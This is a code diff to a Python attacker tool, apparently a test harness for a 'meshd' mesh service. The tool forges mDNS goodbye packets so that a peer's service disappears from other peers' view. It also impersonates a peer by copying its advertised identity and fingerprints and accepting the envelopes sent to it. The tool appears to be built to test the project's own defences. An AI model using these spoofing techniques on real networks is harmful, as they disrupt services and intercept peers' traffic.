@@ -3,18 +3,21 @@ bound to that namespace's veth address only, forging what anyone on a LAN can se
 
 Reads commands on stdin, one per line; prints one JSON object per line on stdout:
 
-- ``goodbye <peer id hex>``: find the meshd service advertising that id and send three goodbye packets
+- ``goodbye <service name> <host name> <ip> <port>``: send the three goodbye packets of that meshd service
   (its PTR, SRV and TXT records with TTL 0, 125 ms apart, as zeroconf's own unregister does) from here:
-  ``{"event": "goodbye_sent", "name": ...}``.
-- ``impersonate <peer id hex>``: advertise a service of our own whose TXT is a copy of that peer's (its id,
-  domain, fingerprints, tasks) at this namespace's address and a port where a plain socket listener answers
-  every HTTP request with 204 (the most convincing lie) and reports it: ``{"event": "registered", ...}``,
-  then ``{"event": "request", "kind": ..., "from": ...}`` for each envelope that reaches it (``kind`` read
-  from the envelope's clear-text header).
+  ``{"event": "goodbye_sent", "name": ...}``. Nothing is queried first: the instance name, host name and
+  address of a meshd service are public (any browser on the LAN sees them).
+- ``impersonate <service name>``: resolve that service, then advertise one of our own whose TXT is a copy
+  of it (the peer's id, domain, fingerprints, tasks) at this namespace's address and a port where a plain
+  socket listener answers every HTTP request with 204 (the most convincing lie) and reports it:
+  ``{"event": "registered", ...}``, then ``{"event": "request", "kind": ..., "from": ...}`` for each
+  envelope that reaches it (``kind`` read from the envelope's clear-text header).
 - ``withdraw``: unregister that service (zeroconf sends its goodbyes): ``{"event": "withdrawn"}``.
 - ``exit`` (or EOF).
 
-Exits by itself after ``--max-seconds``; every send is a handful of packets.
+The attacker runs no browser: its queries would make the victim re-announce and undo a goodbye at once,
+which the attack of issue #10 avoided. Exits by itself after ``--max-seconds``; every send is a handful of
+packets.
 """
 
 from __future__ import annotations
@@ -26,13 +29,13 @@ import sys
 from typing import Any
 
 import msgpack
-from zeroconf import IPVersion, ServiceInfo, ServiceStateChange, Zeroconf
-from zeroconf.asyncio import AsyncServiceBrowser, AsyncServiceInfo, AsyncZeroconf
+from zeroconf import IPVersion, ServiceInfo
+from zeroconf.asyncio import AsyncServiceInfo, AsyncZeroconf
 
 SERVICE_TYPE = "_meshd._tcp.local."
 GOODBYES = 3
 GOODBYE_GAP_S = 0.125  # zeroconf's _UNREGISTER_TIME: spacing between the packets, not synchronisation
-FIND_S = 20.0
+RESOLVE_MS = 5000
 MAX_REQUEST_BYTES = 80 * 2**20
 
 
@@ -45,46 +48,27 @@ class Attacker:
     def __init__(self, ip: str, port: int) -> None:
         self.ip, self.port = ip, port
         self.aiozc = AsyncZeroconf(interfaces=[ip], ip_version=IPVersion.V4Only)
-        self.names: set[str] = set()
         self.fake: ServiceInfo | None = None
-        self.browser = AsyncServiceBrowser(self.aiozc.zeroconf, SERVICE_TYPE, handlers=[self._on_change])
 
-    def _on_change(self, zeroconf: Zeroconf, service_type: str, name: str, state_change: ServiceStateChange) -> None:
-        if state_change is ServiceStateChange.Removed:
-            self.names.discard(name)
-        else:
-            self.names.add(name)
-
-    async def find(self, peer_id: str) -> AsyncServiceInfo:
-        """The resolved service whose TXT ``id`` is ``peer_id`` (polls the browser's names with a deadline)."""
-        async with asyncio.timeout(FIND_S):
-            while True:
-                for name in sorted(self.names):
-                    if self.fake is not None and name == self.fake.name:
-                        continue
-                    info = AsyncServiceInfo(SERVICE_TYPE, name)
-                    if await info.async_request(self.aiozc.zeroconf, 3000) and info.properties.get(b"id") == (
-                        peer_id.encode()
-                    ):
-                        return info
-                await asyncio.sleep(0.2)  # polling interval of a deadline loop
-
-    async def goodbye(self, peer_id: str) -> None:
-        info = await self.find(peer_id)
-        # The records of the victim's service, with TTL 0: a goodbye (RFC 6762 section 10.1). Its address
-        # records are left alone, as zeroconf does when another service still uses the host name.
+    async def goodbye(self, name: str, server: str, ip: str, port: int) -> None:
+        info = ServiceInfo(SERVICE_TYPE, name, port=port, server=server, parsed_addresses=[ip])
+        # Its address records are left alone, as zeroconf does when another service still uses the host name.
         out = self.aiozc.zeroconf.generate_service_broadcast(info, 0, broadcast_addresses=False)
         for i in range(GOODBYES):
             if i:
                 await asyncio.sleep(GOODBYE_GAP_S)
             self.aiozc.zeroconf.async_send(out)
-        _print({"event": "goodbye_sent", "name": info.name})
+        _print({"event": "goodbye_sent", "name": name})
 
-    async def impersonate(self, peer_id: str) -> None:
-        victim = await self.find(peer_id)
+    async def impersonate(self, name: str) -> None:
+        victim = AsyncServiceInfo(SERVICE_TYPE, name)
+        if not await victim.async_request(self.aiozc.zeroconf, RESOLVE_MS):
+            _print({"event": "error", "detail": f"cannot resolve {name}"})
+            return
         props = {k.decode(): (v.decode() if v is not None else None) for k, v in victim.properties.items()}
-        fake = ServiceInfo(SERVICE_TYPE, f"impostor-{peer_id[:8]}.{SERVICE_TYPE}", port=self.port,
-                           properties=props, server=f"impostor-{peer_id[:8]}.local.", parsed_addresses=[self.ip])
+        label = f"impostor-{props.get('id', '')[:8]}"
+        fake = ServiceInfo(SERVICE_TYPE, f"{label}.{SERVICE_TYPE}", port=self.port, properties=props,
+                           server=f"{label}.local.", parsed_addresses=[self.ip])
         await (await self.aiozc.async_register_service(fake, allow_name_change=True))
         self.fake = fake
         _print({"event": "registered", "name": fake.name, "address": f"{self.ip}:{self.port}"})
@@ -96,7 +80,6 @@ class Attacker:
         _print({"event": "withdrawn"})
 
     async def close(self) -> None:
-        await self.browser.async_cancel()
         if self.fake is not None:
             await self.withdraw()
         await self.aiozc.async_close()
@@ -143,7 +126,8 @@ async def _main(args: argparse.Namespace) -> None:
             while line := (await reader.readline()).decode().strip():
                 cmd, _, arg = line.partition(" ")
                 if cmd == "goodbye":
-                    await attacker.goodbye(arg)
+                    name, server, ip, port = arg.split()
+                    await attacker.goodbye(name, server, ip, int(port))
                 elif cmd == "impersonate":
                     await attacker.impersonate(arg)
                 elif cmd == "withdraw":
